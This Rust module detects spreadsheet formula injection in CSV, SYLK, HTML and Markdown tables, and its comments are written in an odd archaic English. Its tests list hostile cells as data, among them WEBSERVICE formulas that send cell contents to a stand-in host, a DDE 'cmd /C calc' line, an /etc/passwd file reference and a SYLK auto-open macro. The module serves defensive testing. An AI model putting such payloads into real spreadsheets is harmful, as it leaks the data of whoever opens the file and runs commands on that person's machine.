//! Tables, which a program may calculate: a formula asks an address that it makes of other cells, also of such as are written later.

/// What a formula begins with, in letters of any width.
const SIGNS: [char; 9] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];

/// What stands between the cells of a file of a table.
const SEPARATORS: [char; 3] = [',', ';', '\t'];

/// What stands in numbers, their units, names and times, beside letters and digits, and calls nothing.
const PLAIN: &str = " .,:%/°€$£¥+-_@–−";

/// What files of other formats begin with that a program of tables knows by their letters, whatever their name ends in: SYLK, whose cells
/// need no sign to calculate, DIF, HTML and its like, RTF, PostScript and PDF, archives.
const OTHER_FORMATS: [&str; 7] = ["ID;", "<", "{\\", "%!", "%PDF", "PK\u{3}\u{4}", "MIME-Version:"];

/// First lines of other formats.
const OTHER_HEADS: [&str; 3] = ["ID", "TABLE", "WEB"];

/// Whether a file of a table has a formula, says itself what stands between its cells, or may be taken for a file of another format.
pub(super) fn calculates(text: &str) -> bool {
    let start =
        text.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '\u{feff}').replace('\r', "");
    let head = start.lines().next().unwrap_or_default().trim();
    if OTHER_FORMATS.iter().any(|other| start.starts_with(other)) || OTHER_HEADS.contains(&head) {
        return true;
    }
    let names_separator = |line: &str| margin_off(line).to_lowercase().starts_with("sep=");
    text.lines().any(|line| names_separator(line) || line.split(SEPARATORS).any(is_formula))
}

/// Whether a table in Markdown has a formula.
pub(super) fn draws_formula(text: &str) -> bool {
    let has_table = text.lines().any(|line| line.contains('|') && line.contains('-') && is_below_head(line));
    has_table && text.lines().filter(|line| line.contains('|')).any(|line| line.split('|').any(is_formula))
}

/// Whether a line of Markdown may stand below the head of a table.
fn is_below_head(line: &str) -> bool {
    line.chars().all(|letter| letter.is_whitespace() || "|-:>".contains(letter))
}

/// Whether a cell may be a formula. A number or a word with a sign before it is none.
fn is_formula(cell: &str) -> bool {
    let cell = margin_off(cell).trim_end_matches(|letter: char| letter.is_whitespace() || letter == '"');
    let Some(rest) = cell.strip_prefix(SIGNS) else { return false };
    let has_letters = rest.contains(char::is_alphabetic);
    let calls = |letter: char| {
        let is_plain = letter.is_alphanumeric() || PLAIN.contains(letter) || (!has_letters && "()".contains(letter));
        !is_plain
    };
    match cell.starts_with(['=', '＝']) {
        true => !rest.chars().all(|letter| SIGNS.contains(&letter)),
        false => rest.contains(calls),
    }
}

fn margin_off(cell: &str) -> &str {
    cell.trim_start_matches(|letter: char| letter.is_whitespace() || "\"'>".contains(letter))
}

#[cfg(test)]
mod tests {
    use super::*;

    // SEC-005 SEC-059
    #[test]
    fn a_cell_that_begins_as_a_formula_is_one_behind_quotes_and_blanks_too() {
        let formulas = [
            "=WEBSERVICE(\"http://a.example/?x=\"&A2)",
            "a,\"=WEBSERVICE(\"\"http://a.example/?x=\"\"&TEXTJOIN(\"\",\"\",TRUE,A2:B99))\"",
            "a;  =B1",
            "a\t+HYPERLINK(A1)",
            "a,-SUM (A1)",
            "a,@SUM(A1)",
            "a,＝HYPERLINK(A1)",
            "a,-2+3+cmd|' /C calc'!A0",
            "a,+'file:///etc/passwd'#$Sheet1.A1",
            "\"a\n=B1\"",
            "ID;PWXL;N;E\nC;Y1;X1;K0;EWEBSERVICE(B1)\nE\n",
            " ID;P\nNN;NAuto_open;ER1C1\n",
            "TABLE \r\n0,1\r\n",
            "WEB\n1\nhttp://a.example/\n",
            "MIME-Version: 1.0\n",
            "<table><tr><td>1",
            "{\\rtf1 a}",
            "sep=x\nax=B1",
        ];
        for text in formulas {
            assert!(calculates(text), "{text}");
        }
        let plain = [
            "room,price\n1,70\n",
            "Berlin;-5 °C;+3.5\n",
            "a,-,--,+49 (0)30 1234,-10 %",
            "a,@anchor,-20 km/h,- none",
            "a,b=c,https://a.example/?x=1&y=2",
            "=====",
            "id;name\n1;Ada\n",
            "ID,name\n1,Ada\n",
            "\"ID\",name\n",
            "TABLE,room\n",
        ];
        for text in plain {
            assert!(!calculates(text), "{text}");
        }
    }

    // SEC-005 SEC-059
    #[test]
    fn a_formula_of_markdown_stands_in_a_table() {
        for text in ["| a | b |\n|---|---|\n| 1 | =WEBSERVICE(A1) |\n", "> a | b\n> :-- | --\n> @SUM(A1) | 2\n"] {
            assert!(draws_formula(text), "{text}");
        }
        let plain = [
            "| option | what |\n|---|---|\n| -v, --verbose | says more |\n| @anchor | -5 °C |\n",
            "```rust\nflags |= a(b);\n```\n",
            "a = b | =c(d)\n",
        ];
        for text in plain {
            assert!(!draws_formula(text), "{text}");
        }
    }
}
